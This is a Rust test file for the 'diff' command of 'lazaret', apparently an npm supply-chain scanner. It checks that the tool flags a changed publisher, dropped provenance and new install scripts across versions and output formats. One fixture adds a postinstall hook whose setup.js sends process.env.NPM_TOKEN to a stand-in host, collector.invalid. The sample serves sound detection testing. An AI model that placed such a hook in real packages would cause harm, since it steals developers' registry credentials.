//! `lazaret diff`.

use crate::harness::{Home, Said, malicious};
use insta::assert_snapshot;
use lazaret_testing::{FakeNpm, Npm, tarball};
use serde_json::Value;

const BEFORE: &[(&str, &str)] = &[
    (
        "package/package.json",
        r#"{ "name": "left-pad", "version": "1.0.0", "scripts": { "test": "node test.js" } }"#,
    ),
    (
        "package/index.js",
        "const os = require('os');\nmodule.exports = (text) => text + os.EOL;\n",
    ),
];

const AFTER: &[(&str, &str)] = &[
    (
        "package/package.json",
        r#"{ "name": "left-pad", "version": "1.0.1", "scripts": { "test": "node test.js", "postinstall": "node setup.js" }, "dependencies": { "right-pad": "^1.0.0" } }"#,
    ),
    (
        "package/index.js",
        "const os = require('os');\nmodule.exports = (text) => text + os.EOL;\n",
    ),
    (
        "package/setup.js",
        "const https = require('https');\nhttps.get('https://collector.invalid/?t=' + process.env.NPM_TOKEN);\n",
    ),
];

fn home() -> Home {
    let home = Home::new();
    home.write("before.tgz", tarball(BEFORE.iter().copied()));
    home.write("after.tgz", tarball(AFTER.iter().copied()));
    home
}

fn json(said: &Said) -> Value {
    serde_json::from_str(&said.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}\n{}", said.stdout, said.stderr))
}

fn inputs(document: &Value) -> Vec<&str> {
    let inputs = document["inputs"].as_array().unwrap();
    inputs
        .iter()
        .map(|input| input["input"].as_str().unwrap())
        .collect()
}

#[test]
fn every_format_says_what_is_new() {
    let home = home();
    let human = home.run(&["diff", "before.tgz", "after.tgz"]);
    assert_eq!(human.code, Some(1), "{}{}", human.stdout, human.stderr);
    assert_snapshot!("update-human", human.stdout);
    let markdown = home.run(&["diff", "before.tgz", "after.tgz", "--format", "markdown"]);
    assert_snapshot!("update-markdown", markdown.stdout);

    let document = json(&home.run(&["diff", "before.tgz", "after.tgz", "--format", "json"]));
    assert_eq!(document["schema"], 1);
    assert_eq!(document["outcome"], "block");
    assert_eq!(
        (document["before"].as_str(), document["after"].as_str()),
        (Some("1.0.0"), Some("1.0.1"))
    );
    assert_eq!(inputs(&document), ["before.tgz", "after.tgz"]);
    assert_eq!(document["scripts"][0]["name"], "postinstall");
    let new = document["findings"].as_array().unwrap();
    assert!(
        new.iter()
            .any(|finding| finding["rule"] == "credential-exfiltration"
                && finding["novelty"] == "new")
    );
}

#[test]
fn the_same_twice_is_nothing_new() {
    let home = home();
    let said = home.run(&["diff", "after.tgz", "after.tgz"]);
    assert_eq!(said.code, Some(0), "{}{}", said.stdout, said.stderr);
    assert!(said.stdout.contains("ALLOW"), "{}", said.stdout);
}

#[test]
fn json_is_the_same_byte_for_byte() {
    let run = || {
        home()
            .run(&["diff", "before.tgz", "after.tgz", "--format", "json"])
            .stdout
    };
    assert_eq!(run(), run());
}

#[test]
fn folders_are_compared_as_tarballs_are() {
    let home = home();
    for (folder, files) in [("old", BEFORE), ("new", AFTER)] {
        for (path, text) in files {
            home.write(&path.replacen("package", folder, 1), text);
        }
    }
    let mut folders = json(&home.run(&["diff", "old", "new", "--format", "json"]));
    let tarballs = json(&home.run(&["diff", "before.tgz", "after.tgz", "--format", "json"]));
    assert_eq!(inputs(&folders), ["old", "new"]);
    folders["inputs"] = tarballs["inputs"].clone();
    assert_eq!(folders, tarballs);
}

/// 1.0.0, 1.0.1 and 2.0.0; the second one steals, another person published it, and it has no provenance any more.
fn npm() -> FakeNpm {
    let person = |name: &str| serde_json::json!({ "name": name, "email": "x@registry.example" });
    let provenance = serde_json::json!({ "url": "https://registry.example/", "provenance": { "predicateType": "x" } });
    Npm::new()
        .package("left-pad", |package| {
            package
                .version("1.0.0", |release| {
                    release
                        .file("index.js", BEFORE[1].1)
                        .manifest_field("_npmUser", person("one"))
                        .dist("attestations", provenance.clone())
                })
                .version("1.0.1", |release| {
                    release
                        .file("index.js", BEFORE[1].1)
                        .file("setup.js", AFTER[2].1)
                        .script("postinstall", "node setup.js")
                        .manifest_field("_npmUser", person("two"))
                })
                .version("2.0.0", |release| {
                    release
                        .file("index.js", BEFORE[1].1)
                        .manifest_field("_npmUser", person("one"))
                        .dist("attestations", provenance.clone())
                })
        })
        .start_blocking()
}

#[test]
fn versions_of_the_registry_are_compared_and_their_history_counts() {
    let npm = npm();
    let home = Home::new();
    let said = home.run(&[
        "diff",
        "left-pad@1.0.0",
        "left-pad@1.0.1",
        "--upstream",
        &npm.url(),
        "--format",
        "json",
    ]);
    assert_eq!(said.code, Some(1), "{}", said.stderr);
    let document = json(&said);
    assert_eq!(inputs(&document), ["left-pad@1.0.0", "left-pad@1.0.1"]);
    let findings = document["findings"].as_array().unwrap();
    let has = |rule: &str| findings.iter().any(|finding| finding["rule"] == rule);
    for rule in ["publisher-changed", "provenance-dropped", "install-script"] {
        assert!(has(rule), "{rule}: {findings:#?}");
    }
    // Each document once, each tarball once.
    assert_eq!(npm.requests_to("/left-pad").len(), 1);
    assert_eq!(npm.requests().len(), 3);
}

#[test]
fn a_version_alone_is_compared_with_the_one_before() {
    let npm = npm();
    let home = Home::new();
    let diff = |id: &str, more: &[&str]| {
        let url = npm.url();
        home.run(&[&["diff", id, "--upstream", &url, "--format", "json"], more].concat())
    };
    assert_eq!(
        inputs(&json(&diff("left-pad@1.0.1", &[]))),
        ["left-pad@1.0.0", "left-pad@1.0.1"]
    );
    assert_eq!(
        inputs(&json(&diff("left-pad@2.0.0", &[]))),
        ["left-pad@1.0.1", "left-pad@2.0.0"]
    );

    let first = diff("left-pad@1.0.0", &[]);
    assert_eq!(first.code, Some(3));
    assert_snapshot!(first.stderr, @"error: there is no version before left-pad@1.0.0 to compare it with: use `lazaret inspect left-pad@1.0.0`");

    // Nobody should come from a version that is known to be malicious.
    let record = home.write(
        "MAL-2026-1.json",
        malicious("MAL-2026-1", "left-pad", &["1.0.1"]),
    );
    home.run(&[
        "advisories",
        "import",
        record.to_str().unwrap(),
        "--data",
        "data",
    ]);
    let said = diff("left-pad@2.0.0", &["--data", "data"]);
    assert_eq!(inputs(&json(&said)), ["left-pad@1.0.0", "left-pad@2.0.0"]);
    let said = diff("left-pad@1.0.1", &["--data", "data"]);
    assert_eq!(said.code, Some(5));
}

#[test]
fn a_file_alone_has_nothing_to_be_compared_with() {
    let home = home();
    let said = home.run(&["diff", "after.tgz"]);
    assert_eq!(said.code, Some(2));
    assert_snapshot!(said.stderr, @"error: name the version before as well: only versions of a registry, such as chalk@5.6.1, are compared with the one before by themselves");
    assert_eq!(home.run(&["diff"]).code, Some(2));
    assert_eq!(home.run(&["diff", "a", "b", "c"]).code, Some(2));
}

#[test]
fn sarif_has_what_code_scanning_needs() {
    let home = home();
    let said = home.run(&["diff", "before.tgz", "after.tgz", "--format", "sarif"]);
    assert_eq!(said.code, Some(1));
    let log: Value = json(&said);
    assert_eq!(log["version"], "2.1.0");
    assert_eq!(log["runs"].as_array().unwrap().len(), 1);
    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for rule in rules {
        assert!(
            rule["shortDescription"]["text"]
                .as_str()
                .is_some_and(|text| !text.is_empty())
        );
        assert!(
            rule["help"]["markdown"]
                .as_str()
                .is_some_and(|text| text.len() > 100)
        );
        assert!(matches!(
            rule["defaultConfiguration"]["level"].as_str(),
            Some("error" | "warning" | "note")
        ));
        assert!(
            rule["properties"]["security-severity"]
                .as_str()
                .unwrap()
                .parse::<f32>()
                .is_ok()
        );
    }
    for result in results {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(matches!(
            result["level"].as_str(),
            Some("error" | "warning" | "note")
        ));
        assert!(!result["message"]["text"].as_str().unwrap().is_empty());
        assert_eq!(result["baselineState"], "new");
        let fingerprints = result["partialFingerprints"].as_object().unwrap();
        assert!(fingerprints.values().all(Value::is_string) && !fingerprints.is_empty());
        for location in result["locations"].as_array().unwrap() {
            let physical = &location["physicalLocation"];
            let uri = physical["artifactLocation"]["uri"].as_str().unwrap();
            assert!(uri.starts_with("left-pad@1.0.1/"), "{uri}");
            assert!(uri.bytes().all(|byte| byte.is_ascii_graphic()), "{uri}");
            if let Some(region) = physical["region"].as_object() {
                assert!(region["startLine"].as_u64() >= Some(1));
                assert!(
                    region
                        .get("startColumn")
                        .is_none_or(|column| column.as_u64() >= Some(1))
                );
            }
        }
    }
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
}

#[test]
fn several_packages_are_one_run_of_sarif() {
    let home = home();
    home.write("text.tgz", "not an archive");
    let said = home.run(&[
        "inspect",
        "before.tgz",
        "after.tgz",
        "text.tgz",
        "--format",
        "sarif",
    ]);
    let log = json(&said);
    assert_eq!(log["runs"].as_array().unwrap().len(), 1);
    let invocation = &log["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    assert_eq!(
        invocation["toolExecutionNotifications"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}
